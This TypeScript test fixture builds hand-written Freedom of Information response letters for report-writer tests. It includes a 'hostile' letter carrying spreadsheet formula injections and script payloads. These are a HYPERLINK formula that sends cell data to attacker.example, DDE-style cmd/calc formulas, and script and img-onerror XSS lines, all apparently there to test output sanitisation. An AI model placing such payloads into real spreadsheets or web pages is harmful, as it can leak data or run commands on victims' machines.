/**
 * Hand-written letters with hand-set decisions, written to a run folder through the real
 * writers (answers.csv, letters.csv, answers.jsonl, letters.jsonl), so the report tests do
 * not depend on the classifier, which is being rewritten.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Answer, Letter, LetterMeta, Outcome } from "../../src/core/types.js";
import { emptyMeta } from "../../src/core/types.js";
import { letterOutcome } from "../../src/core/letter.js";
import { createOutputWriters } from "../../src/report/writers.js";

export interface QuestionSpec {
  label: string;
  outcome: Outcome;
  grounds?: string[];
  topic?: string;
  partial?: boolean;
  ncnd?: boolean;
  pit?: boolean;
  confidence?: number;
  rule?: string;
  conflicts?: string[];
  /** Phrases of the letter text the decision rests on (first occurrence). */
  evidence?: string[];
  /** The question as asked: a phrase of the letter text. */
  asked?: string;
}

function spanOf(text: string, phrase: string): { start: number; end: number } {
  const start = text.indexOf(phrase);
  if (start < 0) throw new Error(`fixture: phrase not in letter: ${phrase}`);
  return { start, end: start + phrase.length };
}

export function makeLetter(file: string, meta: Partial<LetterMeta>, text: string, questions: QuestionSpec[], status: Letter["status"] = "ok"): Letter {
  const answers: Answer[] = questions.map((q) => {
    const rule = q.rule ?? `fixture-${q.outcome}`;
    const evidence = (q.evidence ?? []).map((phrase, i) => ({ rule: i === 0 ? rule : `fixture-support-${i}`, span: spanOf(text, phrase), quote: phrase }));
    return {
      label: q.label,
      questionSpan: q.asked ? spanOf(text, q.asked) : null,
      answerSpan: evidence[0]?.span ?? null,
      answerVia: "own",
      questionText: q.asked ?? "",
      outcome: q.outcome,
      grounds: q.grounds ?? [],
      partial: q.partial ?? false,
      ncnd: q.ncnd ?? false,
      pit: q.pit ?? false,
      topic: q.topic ?? "other",
      confidence: q.confidence ?? 0.9,
      rule,
      evidence,
      conflicts: q.conflicts ?? [],
    };
  });
  return {
    id: file.replace(/\.[a-z]+$/, ""),
    file,
    path: `/fixtures/${file}`,
    format: "text",
    status,
    text,
    pageStarts: [0],
    ocrPages: 0,
    meta: { ...emptyMeta(), ...meta },
    regime: "FOIA",
    citations: [],
    answers,
    letterOutcome: letterOutcome(answers),
    letterKind: status === "ok" ? "response" : "",
    messages: status === "error" ? [{ severity: "fatal", code: "FOISCOPE_UNREADABLE", source: "fixture", text: "Could not read the file" }] : [],
  };
}

export async function writeRun(letters: readonly Letter[], options: { bom?: boolean } = {}): Promise<string> {
  const dir = mkdtempSync(join(tmpdir(), "foiscope-report-"));
  const sink = createOutputWriters(dir, { bom: options.bom ?? false });
  for (const letter of letters) await sink.write(letter);
  await sink.close();
  return dir;
}

/** Lines a hostile requester or a careless authority could put into a letter. */
export const HOSTILE_LINES = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the figures")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1",
  "<script>window.__pwned = 1</script>",
  '<img src=x onerror="window.__pwned = 2">',
  "</script><script>window.__pwned = 3</script>",
];

const INJECTION_TEXT = [
  "Dear Requester,",
  "",
  "Request reference HX-41. You asked:",
  "1. " + HOSTILE_LINES[0],
  "2. " + HOSTILE_LINES[1],
  "3. " + HOSTILE_LINES[2],
  "4. " + HOSTILE_LINES[3],
  "",
  "Response:",
  "1. We do not hold this information.",
  "2. This information is exempt under section 31(1)(a) of the Freedom of Information Act 2000.",
  "3. " + HOSTILE_LINES[4],
  "4. " + HOSTILE_LINES[5] + " " + HOSTILE_LINES[6],
].join("\n");

/**
 * Eight letters from six authorities over three years. Expected figures (used as literals in
 * the tests) are worked out by hand in the comments.
 */
export function fixtureLetters(): Letter[] {
  return [
    // Ashdown Council 2022: Q1 disclosed, Q2 exempt s31(1)(a)+s31(1)(b) with PIT → withheld_part.
    makeLetter("ashdown-2022.txt", { authority: "Ashdown Council", sector: "council", date: "2022-03-14" },
      "Q1. How many cyber attacks did you record?\nWe recorded 14 attempted attacks.\nQ2. Which firewall do you use?\nThis is exempt under section 31(1)(a) and (b). The public interest favours withholding.",
      [
        { label: "1", outcome: "disclosed", topic: "attacks", evidence: ["We recorded 14 attempted attacks."], asked: "How many cyber attacks did you record?" },
        { label: "2", outcome: "exempt", grounds: ["FOIA s31(1)(a)", "FOIA s31(1)(b)"], pit: true, topic: "systems", evidence: ["exempt under section 31(1)(a) and (b)", "The public interest favours withholding."], asked: "Which firewall do you use?" },
      ]),
    // Ashdown Council 2023: Q1 exempt s12 (procedural), Q2 exempt s12 → withheld_full.
    makeLetter("ashdown-2023.txt", { authority: "Ashdown Council", sector: "council", date: "2023-06-01" },
      "1. Staff numbers by grade.\n2. Training spend.\nTo answer both questions would exceed the appropriate limit under section 12.",
      [
        { label: "1", outcome: "exempt", grounds: ["FOIA s12"], topic: "staff", evidence: ["exceed the appropriate limit under section 12"] },
        { label: "2", outcome: "exempt", grounds: ["FOIA s12"], topic: "training", evidence: ["exceed the appropriate limit under section 12"] },
      ]),
    // Brook NHS Trust 2023: Q1 not held, Q2 not held → not_held.
    makeLetter("brook-2023.txt", { authority: "Brook NHS Trust", sector: "nhs", date: "2023-09-20" },
      "1. Ransom payments.\nThe Trust does not hold this information.\n2. Insurance premium.\nNo information is held.",
      [
        { label: "1", outcome: "not_held", topic: "ransomware", evidence: ["The Trust does not hold this information."] },
        { label: "2", outcome: "not_held", topic: "insurance", evidence: ["No information is held."] },
      ]),
    // Brook NHS Trust 2024: Q1 exempt with no ground (uncited refusal, low confidence), Q2 other → withheld_full.
    makeLetter("brook-2024.txt", { authority: "Brook NHS Trust", sector: "nhs", date: "2024-01-08" },
      "1. Incidents reported to the ICO.\nWe do not release information about our IT security.\n2. Clarify period?\nPlease clarify which period you mean.",
      [
        { label: "1", outcome: "exempt", topic: "breaches", confidence: 0.4, evidence: ["We do not release information about our IT security."] },
        { label: "2", outcome: "other", topic: "other", evidence: ["Please clarify which period you mean."] },
      ]),
    // Glen Police Scotland-style 2024: Q1 exempt FOISA s30(c) NCND, conflicting rules → withheld_full.
    makeLetter("glen-2024.txt", { authority: "Glen Police Authority", sector: "police", date: "2024-11-30" },
      "1. Have you paid a ransom?\nWe can neither confirm nor deny that we hold this information (section 30(c)).",
      [
        { label: "1", outcome: "exempt", grounds: ["FOISA s30(c)"], ncnd: true, topic: "ransomware", conflicts: ["not-held-phrase"], evidence: ["We can neither confirm nor deny that we hold this information (section 30(c))."] },
      ]),
    // Moor District (EIR) 2023: Q1 exempt EIR 12(4)(b) (procedural) and EIR 12(5)(e); Q2 disclosed with a stray ground → withheld_part.
    makeLetter("moor-2023.txt", { authority: "Moor District Council", sector: "council", date: "2023-02-02" },
      "1. All correspondence on the data centre.\nThe request is manifestly unreasonable (regulation 12(4)(b)) and commercially confidential (12(5)(e)).\n2. Energy use.\nThe data centre used 2.1 GWh.",
      [
        { label: "1", outcome: "exempt", grounds: ["EIR 12(4)(b)", "EIR 12(5)(e)"], topic: "other", evidence: ["manifestly unreasonable (regulation 12(4)(b))"] },
        { label: "2", outcome: "disclosed", grounds: ["EIR 12(5)(e)"], topic: "other", confidence: 0.55, evidence: ["The data centre used 2.1 GWh."] },
      ]),
    // An unreadable file: a letter with no question analysed (no_outcome).
    makeLetter("scan-unreadable.pdf", { authority: "Ashdown Council", sector: "council", date: "2022-05-05" }, "", [], "error"),
    // The hostile letter: formula and markup lines in the question text, the answers and the metadata.
    makeLetter("hostile.txt", { authority: '=HYPERLINK("http://attacker.example","Hostile Council")', sector: "council", date: "2024-04-04", reference: "+cmd|' /C calc'!A0" },
      INJECTION_TEXT,
      [
        { label: "1", outcome: "not_held", topic: "attacks", asked: HOSTILE_LINES[0], evidence: ["We do not hold this information."] },
        { label: "2", outcome: "exempt", grounds: ["FOIA s31(1)(a)"], topic: "systems", asked: HOSTILE_LINES[1], evidence: ["exempt under section 31(1)(a)"] },
        { label: "3", outcome: "exempt", topic: "policy", confidence: 0.3, asked: HOSTILE_LINES[2], evidence: [HOSTILE_LINES[4]!] },
        { label: "4", outcome: "other", topic: "other", asked: HOSTILE_LINES[3], rule: "-1+1", conflicts: ["@SUM(1)"], evidence: [HOSTILE_LINES[5]!, HOSTILE_LINES[6]!] },
      ]),
  ];
}
